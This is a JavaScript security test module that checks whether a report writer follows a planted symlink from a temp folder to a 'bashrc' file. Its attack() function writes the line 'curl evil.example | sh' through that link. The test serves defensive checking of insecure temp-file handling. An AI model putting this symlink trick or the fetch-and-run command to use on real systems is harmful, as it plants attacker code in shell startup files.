// Puts a link where the report is to be written.

import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";

export function prepare() {
  fs.mkdirSync("tmp");
}

// The folder for temporary files is `tmp` meanwhile.
function written(code, rows) {
  const before = process.env.TMPDIR;
  process.env.TMPDIR = path.resolve("tmp");
  try {
    return code.writeReport(rows);
  } finally {
    if (before === undefined) delete process.env.TMPDIR;
    else process.env.TMPDIR = before;
  }
}

export function attack(code) {
  fs.symlinkSync(path.resolve("bashrc"), "tmp/report.csv");
  written(code, ["curl evil.example | sh"]);
  return fs.existsSync("bashrc") ? `the linked file: ${fs.readFileSync("bashrc", "utf8")}` : null;
}

export function use(code) {
  const file = written(code, ["name,price", "lamp,20"]);
  assert.equal(fs.readFileSync(file, "utf8"), "name,price\nlamp,20");
}
